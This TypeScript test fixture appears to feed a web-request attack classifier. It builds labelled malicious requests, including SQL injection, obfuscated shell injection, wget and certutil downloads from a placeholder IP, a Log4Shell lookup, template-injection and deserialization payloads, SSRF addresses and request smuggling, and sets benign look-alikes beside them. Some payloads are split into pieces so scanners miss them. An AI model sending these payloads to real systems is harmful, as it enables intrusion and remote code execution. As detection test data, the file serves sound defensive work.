import type { Named } from './index.ts';

const AGENT = 'Mozilla/5.0 (X11; Linux x86_64; rv:128.0) Gecko/20100101 Firefox/128.0';
const header = (name: string, value: string) =>
  `GET / HTTP/1.1\nHost: shop.example\n${name === 'User-Agent' ? '' : `User-Agent: ${AGENT}\n`}${name}: ${value}\n\n`;
const field = (value: string, name = 'q') =>
  `GET /a?${name}=${encodeURIComponent(value)} HTTP/1.1\nHost: shop.example\nUser-Agent: ${AGENT}\n\n`;
const json = (text: string) =>
  `POST /a HTTP/1.1\nHost: shop.example\nContent-Type: application/json\n\n${text}`;
const upload = (disposition: string) =>
  'POST /u HTTP/1.1\nHost: shop.example\nContent-Type: multipart/form-data; boundary=xx\n\n--xx\n' +
  `Content-Disposition: form-data; name="f"; ${disposition}\nContent-Type: image/png\n\nabc\n--xx--`;
const head = (lines: string) => `POST / HTTP/1.1\nHost: shop.example\n${lines}\n\n0`;
/** Joined here, so that no scanner takes this file for what it is about. */
const joined = (...pieces: readonly string[]) => pieces.join('');

const numbered = (values: readonly string[], of: (value: string) => string, label: string): Named =>
  Object.fromEntries(values.map((value, index) => [`${label} ${index + 1}`, of(value)]));

const HEADERS_WITH_ATTACKS: readonly (readonly [string, string])[] = [
  ['User-Agent', "1' or '1'='1"],
  ['User-Agent', "' union select 1,2,version()#"],
  ['User-Agent', 'x; cat /etc/passwd'],
  ['User-Agent', 'test|powershell -enc SQBFAFgA'],
  ['Referer', "http://a.example/?id=1'+union+select+1,2,3--+-"],
  ['X-Forwarded-For', '127.0.0.1;wget http://203.0.113.4/x'],
  ['X-Custom', '/etc/passwd'],
  ['Accept-Encoding', "gzip'; drop table users; --"],
  ['Origin', 'https://a.example"><script>alert(1)</script>'],
  ['Sec-CH-UA', joined('${jn', 'di:ldap://203.0.113.4/a}')],
  ['Content-Length', '$(sleep 5)'],
  ['Date', "' || (select 1 from dual) || '"],
  ['X-Forwarded-Host', 'zz.oast.pro'],
  ['cmd', 'whoami'],
  ['Referer', "http://a.example/'+or+'1'='1"],
  ['Proxy', 'http://203.0.113.4:8080'],
  ['Content-Disposition', 'form-data; filename="x.php"'],
  ['X-Middleware-Subrequest', 'middleware:middleware:middleware'],
];
const HEADERS: readonly (readonly [string, string])[] = [
  ['User-Agent', 'Mozilla/4.0 (compatible; MSIE 8.0; Windows NT 6.1; .NET CLR 2.0.50727; InfoPath.2)'],
  [
    'User-Agent',
    'Mozilla/5.0 (iPhone; CPU OS 17_4 like Mac OS X) [FBAN/FBIOS;FBDV/iPhone15,4;FBID/phone;FBOP/80]',
  ],
  ['User-Agent', 'npm/10.8.1 node/v20.15.0 linux x64 workspaces/false'],
  [
    'User-Agent',
    'pip/24.1 {"ci":null,"distro":{"name":"Ubuntu"},"python":"3.12.3","system":{"name":"Linux"}}',
  ],
  [
    'User-Agent',
    'docker/26.1.4 go/go1.21.11 os/linux arch/amd64 UpstreamClient(Docker-Client/26.1.4 \\(linux\\))',
  ],
  ['Accept', 'text/html,application/xml;q=0.9,image/webp,*/*;q=0.8'],
  ['Sec-CH-UA', '"Not/A)Brand";v="8", "Chromium";v="126", "Google Chrome";v="126"'],
  ['Sec-CH-UA', '" Not A;Brand";v="99", "Chromium";v="98"'],
  ['Content-Security-Policy', "default-src 'self'; script-src 'self' https://cdn.example; object-src 'none'"],
  ['traceparent', '00-4bf92f3577b34da6a3ce929d0e0e4736-00f067aa0ba902b7-01'],
  ['Forwarded', 'for=192.0.2.43;proto=https;by=203.0.113.43, for="[2001:db8:cafe::17]"'],
  ['Link', '<https://a.example/p?page=2>; rel="next", <https://a.example/p?page=9>; rel="last"'],
  ['Referer', 'https://www.google.com/search?q=union+select+explained&oq=union+select'],
  ['Referer', 'http://localhost:3000/admin?tab=users'],
  ['Prefer', 'return=representation; wait=10'],
  ['X-Request-Path', '/var/www/app'],
  ['X-Original-URI', '/api/users?id=5&sort=name'],
  ['Cookie', 'a="x;y"; __utmz=1.2.3.utmcsr=(direct)|utmccn=(direct); last=/products?sort=price&dir=asc'],
];

const COMMANDS: readonly string[] = [
  ';c\\a\\t /e\\tc/pas\\swd',
  '127.0.0.1|/b?n/c?t /e?c/p?ss??',
  'w$@hoa$@mi',
  // biome-ignore lint/suspicious/noTemplateCurlyInString: it is for a shell
  '|wh${x}oami',
  "'w'h'o'a'm'i",
  "$(rev<<<'dwssap/cte/ tac')",
  'x;echo Y2F0IC9ldGMvcGFzc3dk|base64 -d|sh',
  "$'\\x63\\x61\\x74' /etc/passwd",
  'a=c;b=at;$a$b /etc/passwd',
  'sh -c id',
  'env -i sh -c id',
  'busybox wget http://203.0.113.4/a',
  'find / -name x -exec id \\;',
  "/bi'n'/l's'",
  '&& echo a$((40+2))b',
  'tar cf x --checkpoint-action=exec=sh',
  'cmd,/c,whoami',
  'who^ami',
  '8.8.8.8; \\whoami',
  '8.8.8.8|\\id',
  "8.8.8.8; who$''ami",
  '8.8.8.8; who$""ami',
  'certutil -urlcache -split -f http://203.0.113.4/a a.exe',
  'wmic process call create calc',
  '& set /a 268409241 - 2',
  'IF /I "%var%"=="x" echo same',
  '{,ifconfig,eth0}',
  '-c id',
];
const NO_COMMANDS: readonly string[] = [
  'env',
  'foo|\\w+|\\bid\\b',
  'one;\\ntwo',
  "it's $'' here",
  'C:\\\\id;\\\\server\\share',
  'what time is it',
  'python -c vs python -m difference',
  'how to use bash -c',
  'net user guide',
  'Head & Shoulders',
  'Time & Date',
  'type|file|date',
  "What's ur pin?",
  'Your dad is back in ph?',
  "rock 'n' roll",
  'process.env in webpack',
  'command not found: node',
  '%COMSPEC% explained',
  '**/*.ts',
  '*/5 * * * 1-5',
  '0 3 * * * /usr/local/bin/backup.sh --all',
  'if a == b then call me',
  '$5 (five) off',
  'Gasversorgung in Salvador Bahia',
  'Perl | Ruby | Python',
  'php, perl; python',
  'sed & awk',
  'find & replace',
  'system() function',
  'print("hello")',
  'dunder __class__ meaning',
  'java.lang.NullPointerException at line 5',
];

const PROGRAMS: readonly string[] = [
  joined("$a='sys'.'tem';", "$a('id');"),
  joined('(php', 'info)()'),
  joined('"\\x73\\x79\\x73\\x74\\x65\\x6d"', '("id")'),
  joined("['sys", "tem'][0]('id')"),
  joined('(sy.(st).em)', '(whoami)'),
  joined('(new Reflection', "Function('sys", "tem'))->invoke('id')"),
  "('%1c%19'^'%6f%60')();",
  btoa('O:4:"Evil":1:{s:7:"\0Evil\0a";s:2:"id";}'),
  '%x(id)',
  "global['pro'+'cess']['mainModule']",
  '"id".execute().text',
  "(#context['x']=1)(#y)",
  '{{config}}',
  joined('$', '{{<%[%\'"}}%\\.'),
  joined("Function('return ", "process')()"),
  'qx{id}',
  'Foo::$variable(1)',
  'while(!0);',
  "{{''['__cla'~'ss__']}}",
  // biome-ignore lint/suspicious/noTemplateCurlyInString: it is the attack
  '${applicationScope}',
  joined('$', '{$', '{env:X:-j}nd$', '{env:X:-i}:ldap://x.example/a}'),
  'tag:yaml.org,2002:python/object/apply:x',
  btoa(btoa('<script>alert(1)</script>')),
  '+ADw-script+AD4-alert(1)+ADw-/script+AD4-',
];

const ADDRESSES: readonly (readonly [string, string])[] = [
  ['127.1', 'url'],
  ['localhost:22', 'url'],
  ['0x7f000001', 'url'],
  ['2130706433', 'url'],
  ['localhost:6379/x', 'url'],
  ['[::1]:25', 'server'],
  ['169.254.169.254', 'host'],
  ['http://a.example#@127.0.0.1/', 'u'],
  ['jar:http://203.0.113.5/a.jar!/x', 'u'],
  ['abcd1234.oastify.com', 'q'],
  ['\\\\203.0.113.4\\share\\a', 'file'],
  ['/./././etc/./passwd', 'file'],
];
const OWN_ADDRESSES: readonly (readonly [string, string])[] = [
  ['https://webhook.site/0b1c2d3e-aaaa-4000-8000-000000000000', 'webhook_url'],
  ['localhost', 'db_host'],
  ['127.0.0.1', 'host'],
  ['redis.svc.cluster.local', 'redis_host'],
  ['2130706433', 'id'],
  ['127.1', 'price'],
  ['https://www.example.org/news.php', 'link'],
  ['https://jdk.java.net/21/', 'url'],
  ['C:\\fakepath\\photo.jpg', 'file'],
  ['C:\\Users\\Anna\\Documents\\report.docx', 'path'],
  ['/home/garden', 'category'],
  ['gate/../out', 'q'],
  ['//cdn.example.com/a.js', 'src'],
  ['redis://cache:6379/0', 'redis_url'],
  ['postgres://u:p@db:5432/x', 'database_url'],
];

const FILE_NAMES: readonly string[] = [
  'filename=a.php',
  "filename*=UTF-8''a%2Ephp",
  "filename='a.aspx'",
  'filename="a.jpg"; filename="a.php"',
  'FileName = "a.php"',
  '\n filename="a.jsp"',
  'filename="a.ashx"',
  'filename="a.php/."',
];
const OWN_FILE_NAMES: readonly string[] = [
  'filename="firma.pl.pdf"',
  'filename="how-to-php.pdf"',
  'filename="Dr. Smith (2).docx"',
  `filename="Max's Geburtstag.jpg"`,
  'filename="photo.jpg"; filename*=UTF-8\'\'photo%20%C3%BC.jpg',
  'filename="a.b.c.tar.gz"',
  'filename="incident.inc.pdf"',
];

const pairs = (
  values: readonly (readonly [string, string])[],
  of: (first: string, second: string) => string,
  label: string,
): Named => Object.fromEntries(values.map(([a, b], index) => [`${label} ${index + 1}`, of(a, b)]));

export const MALICIOUS_TECHNIQUES: Named = {
  ...pairs(HEADERS_WITH_ATTACKS, header, 'a header with an attack'),
  ...numbered(COMMANDS, field, 'a command in odd form'),
  ...numbered(PROGRAMS, field, 'a program in odd form'),
  ...pairs(ADDRESSES, field, 'an address in odd form'),
  ...numbered(FILE_NAMES, upload, 'the name of a script in odd form'),
  'a command in a field for one': field('whoami', 'cmd'),
  'the prototype of all objects': json('{"a":{"constructor":{"prototype":{"x":1}}}}'),
  'a database operator in an escape': json('{"u":{"\\u0024ne":null}}'),
  'settings for the interpreter': 'GET /index.php?-d+allow_url_include=on HTTP/1.1\nHost: a.example\n\n',
  'a key that is called': 'GET /?name[%23post_render][]=passthru HTTP/1.1\nHost: a.example\n\n',
  'a host behind a host': 'GET / HTTP/1.1\nHost: a.example:80@b.example\n\n',
  'two lengths': head('Content-Length: 3\nContent-Length: 13'),
  'an encoding in a folded line': head('Content-Length: 3\n Transfer-Encoding: chunked'),
  'a request behind a message':
    'POST / HTTP/1.1\nHost: a.example\nContent-Length: 60\n\n0\n\nGET /admin HTTP/1.1\nHost: a.example\nX: ',
};

export const CLEAN_TECHNIQUES: Named = {
  ...pairs(HEADERS, header, 'an ordinary header'),
  ...numbered(NO_COMMANDS, field, 'words that are commands too'),
  ...pairs(OWN_ADDRESSES, field, 'an address of somebody who may'),
  ...numbered(OWN_FILE_NAMES, upload, 'an ordinary file'),
  'a list of a template': json(
    '{"html":"<p>{{ items | map: \'title\' | sort | join: \', \' }} {{ app.name }} {{ request.locale }}</p>"}',
  ),
  'values of a build': json(joined('{"text":"key: $', '{{ env.NODE_VERSION }} $', '{{ secrets.TOKEN }}"}')),
  'values of a deployment': json(
    joined('{"stage":"$', '{env:STAGE}","region":"$', '{self:provider.region}"}'),
  ),
  'data for search engines': json('{"@context":"https://schema.org","@type":"LocalBusiness"}'),
  'a meeting': json('{"note":"Meeting tomorrow\\nLocation: Room 5\\nHost: Anna"}'),
  'a length twice': head('Content-Length: 5\nContent-Length: 5'),
  'a body in pieces': head('Transfer-Encoding: chunked'),
};
